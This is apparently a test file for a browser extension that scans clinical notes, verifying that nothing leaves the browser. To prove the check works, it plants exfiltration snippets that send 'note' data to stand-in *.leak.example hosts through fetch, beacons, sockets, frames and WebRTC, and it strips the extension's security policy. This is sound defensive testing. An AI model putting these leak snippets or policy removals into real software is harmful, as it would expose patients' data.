// Nothing leaves the browser. The browser is told to send everything but the test's own pages to a sink (a proxy that
// passes nothing on, and a UDP port) and to log the names it resolves; then the main job is done on several pages and on
// twenty notes, and the sink, the log and the server's own log must show nothing that a browser without the extension does
// not show. Whether this would notice a leak is tried too: copies of the extension with one planted must be caught.
// Browsers: chromium, firefox

import assert from 'node:assert/strict';
import { readFileSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { before, describe, test } from 'node:test';
import { BROWSER, EXTENSION, ROOT, start, variant } from './harness.mjs';
import { calm, hostOf, openSink } from './sink.mjs';

const PAGES = ['/', '/pages/textarea.html', '/pages/frames.html', '/strict/pages/inner.html', '/pages/no-note.html'];

/** Twenty of the notes in tests/notes, of every kind. */
function twentyNotes() {
  const folder = join(ROOT, 'tests/notes');
  const files = readdirSync(folder).filter((name) => name.endsWith('.note')).sort();
  return Array.from({ length: 20 }, (_, i) => {
    const text = readFileSync(join(folder, files[Math.floor((i * files.length) / 20)]), 'utf8');
    return text.replace(/^[^]*?^--- note\n/m, '').replace(/^--- [^]*$/m, '');
  });
}

/**
 * Opens the pages in a browser with the extension that `extension(sink)` names, or with none, does the main job on
 * each, and gives all that left the browser, all that reached the pages' server after a page was loaded, and every
 * request of the panel that is not for a file of its own.
 */
async function record({ extension, pages = PAGES, job = mainJob }) {
  const sink = await openSink();
  const session = await start({ extension: extension?.(sink) ?? null, launch: sink.launch });
  const late = [];
  const asked = [];
  try {
    for (const path of pages) {
      const page = await session.page(path);
      await calm(300);
      const loaded = session.server.requests.length;
      if (extension) {
        const panel = await session.panel(page);
        panel.page.on('request', (request) => asked.push(request.url()));
        await job(panel, page);
      }
      await calm();
      late.push(...session.server.requests.slice(loaded));
      await page.close();
    }
    await calm();
  } finally {
    await session.close();
    await sink.close();
  }
  const outside = asked.filter((url) => !/^((chrome|moz)-extension:\/\/[0-9a-p-]+\/|data:|blob:)/.test(url));
  return { arrived: sink.arrived, late, outside };
}

/** Everything that a reader does in the panel. */
async function mainJob(panel) {
  if ((await panel.settled()) !== 'findings') return;
  await panel.open(0);
  await panel.show(0);
  await panel.press('w');
  await panel.press('a');
  await panel.press('u');
  await panel.press('a');
  await panel.click('label[for=setting-inpatient]');
  await panel.settled();
  await panel.click('#tab-accepted');
  await panel.click('#copy');
  await panel.says(/^Copied/);
  await panel.click('#tab-paste');
  await panel.page.type('#paste-text', 'Hospital course: 1. CHF exacerbation, IV furosemide. Echo: LVEF 30%.');
  await panel.click('#paste-scan');
  await panel.settled();
  await panel.click('#tab-queries');
  await panel.page.click('#gaps-first .gap .title');
  await panel.page.type('.gap .draft', 'An MCC. ');
  await panel.page.waitForSelector('.gap .lint .error');
  await panel.page.click('.gap [data-action=copy]');
  await panel.says(/^Copied the draft/);
  await panel.page.click('.gap [data-action=save]');
}

/** The next note is opened on the same page, and scanned. */
async function readTwenty(panel, page) {
  let accepted = 0;
  for (const note of twentyNotes()) {
    await page.$eval('#note', (element, note) => void (element.textContent = note), note);
    await panel.click('#scan');
    const words = String(note.match(/\S+/g).length);
    await panel.page.waitForFunction((words) => document.getElementById('read-line').textContent.includes(` ${words} words`), { timeout: 30_000, polling: 50 }, words);
    assert.equal(await panel.settled(), 'findings', await panel.text('#problem p'));
    // A note of which nothing is suggested has its findings folded away.
    if ((await panel.cards())[0]?.tier !== 'suggested') continue;
    await panel.open(0);
    await panel.press('a');
    accepted += 1;
  }
  assert.ok(accepted >= 15, `a code was accepted in ${accepted} of twenty notes`);
  await panel.press('3');
  await panel.press('c');
  await panel.says(/^Copied/);
}

/** Where a planted leak sends; `by` says which one it was. */
const to = (by, scheme = 'http') => `${scheme}://${by}.leak.example/`;

/** Ways to send that work in a window and in a Worker, none of which may throw into what stands after it. */
const ANYWHERE = {
  fetch: `fetch('${to('fetch')}', { mode: 'no-cors', method: 'POST', body: 'note' }).catch(() => {});`,
  socket: `try { new WebSocket('${to('socket', 'ws')}'); } catch {}`,
  events: `try { new EventSource('${to('events')}'); } catch {}`,
  request: `try { const r = new XMLHttpRequest(); r.open('GET', '${to('request')}'); r.send(); } catch {}`,
};

const IN_A_WINDOW = {
  ...ANYWHERE,
  beacon: `try { navigator.sendBeacon('${to('beacon')}', 'note'); } catch {}`,
  image: `try { new Image().src = '${to('image')}'; } catch {}`,
  frame: `try { document.body.append(Object.assign(document.createElement('iframe'), { src: '${to('frame')}' })); } catch {}`,
  style: `try { document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: '${to('style')}' })); } catch {}`,
};

const NEW_TAB = `chrome.tabs.create({ url: '${to('tab')}', active: false });`;
const NEW_WINDOW = `try { window.open('${to('window')}'); } catch {}`;
const webRtc = (port) => `try {
  const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${port}' }, { urls: 'stun:stun.leak.example:3478' }] });
  peer.createDataChannel('note');
  peer.createOffer().then((offer) => peer.setLocalDescription(offer));
} catch {}`;

const all = (leaks) => Object.values(leaks).join('\n');

const inContent = (leaks) => (_file, edit) => edit('content/read.js', (text) => `${leaks}\n${text}`);
const inPanel = (leaks) => (_file, edit) => edit('panel/panel.js', (text) => `${text}\n${leaks}\n`);
const inWorker = (leaks) => (_file, edit) => edit('panel/engine-worker.js', (text) => `${leaks}\n${text}`);
const withoutPolicy = (_file, edit) => {
  edit('panel/panel.html', (text) => text.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, ''));
  edit('manifest.json', (text) => {
    const manifest = JSON.parse(text);
    manifest.content_security_policy.extension_pages = "script-src 'self' 'wasm-unsafe-eval'";
    return JSON.stringify(manifest);
  });
};
const withoutLockdown = (_file, edit) => edit('panel/panel.html', (text) => text.replace('<script src="lockdown.js"></script>', ''));

/** Runs a changed copy of the extension on one page. `changes(sink)` gives what is changed in it. */
async function recordChanged(changes, job = () => calm(3000)) {
  let copy;
  const extension = (sink) => {
    copy = variant((file, edit) => changes(sink).forEach((change) => change(file, edit)));
    return copy.folder;
  };
  try {
    return await record({ extension, pages: ['/pages/textarea.html'], job });
  } finally {
    copy?.remove();
  }
}

describe('what leaves the browser', { timeout: 600_000 }, () => {
  let usual;
  before(async () => {
    const { arrived } = await record({});
    usual = new Set(arrived.map(hostOf));
  });

  /** What a browser without the extension does not send. */
  const foreign = (arrived) => arrived.filter((line) => !usual.has(hostOf(line)));
  /** Which of the planted leaks have arrived. */
  const caught = (arrived, leaks) => Object.keys(leaks).filter((by) => arrived.some((line) => hostOf(line) === `${by}.leak.example`));

  test('the whole of the main job, on every kind of page: nothing', async () => {
    const { arrived, late, outside } = await record({ extension: () => EXTENSION });
    assert.deepEqual(foreign(arrived), []);
    assert.deepEqual(late, []);
    assert.deepEqual(outside, []);
  });

  test('twenty notes, one after another: nothing', async () => {
    const { arrived, late, outside } = await record({ extension: () => EXTENSION, pages: ['/pages/note.html'], job: readTwenty });
    assert.deepEqual(foreign(arrived), []);
    assert.deepEqual(late, []);
    assert.deepEqual(outside, []);
  });

  test('this would notice: every leak planted in the content script, which no policy binds', async () => {
    const own = `fetch('/stolen?hypertension').catch(() => {});`;
    const { arrived, late } = await recordChanged(() => [inContent(all(IN_A_WINDOW) + own)]);
    assert.deepEqual(caught(arrived, IN_A_WINDOW), Object.keys(IN_A_WINDOW));
    assert.ok(late.some((line) => line.includes('/stolen')), "the request to the page's own server");
  });

  test('this would notice: every leak planted in the panel and in the Worker, once their protection is taken away', async () => {
    const { arrived, outside } = await recordChanged((sink) => [
      inPanel(all(IN_A_WINDOW) + NEW_TAB + NEW_WINDOW + webRtc(sink.udpPort)),
      withoutPolicy,
      withoutLockdown,
    ]);
    const leaks = { ...IN_A_WINDOW, tab: NEW_TAB, window: NEW_WINDOW };
    assert.deepEqual(caught(arrived, leaks), Object.keys(leaks));
    assert.ok(arrived.some((line) => line.startsWith('UDP')), "WebRTC's packets");
    assert.ok(arrived.includes('DNS stun.leak.example'), 'the name that WebRTC resolves past the proxy');
    assert.ok(outside.length > 0, "the panel's own requests");

    const worker = await recordChanged(() => [inWorker(all(ANYWHERE)), withoutPolicy]);
    assert.deepEqual(caught(worker.arrived, ANYWHERE), Object.keys(ANYWHERE));
  });

  test('the same, planted in the panel and in the Worker as they ship: the browser lets none out', async () => {
    const { arrived } = await recordChanged((sink) => [
      inPanel(all(IN_A_WINDOW) + NEW_WINDOW + webRtc(sink.udpPort)),
      inWorker(`${all(ANYWHERE)} import('${to('import')}').catch(() => {});`),
    ], async (panel) => assert.equal(await panel.settled(), 'findings', 'all of it ran'));
    assert.deepEqual(foreign(arrived), []);
  });
});
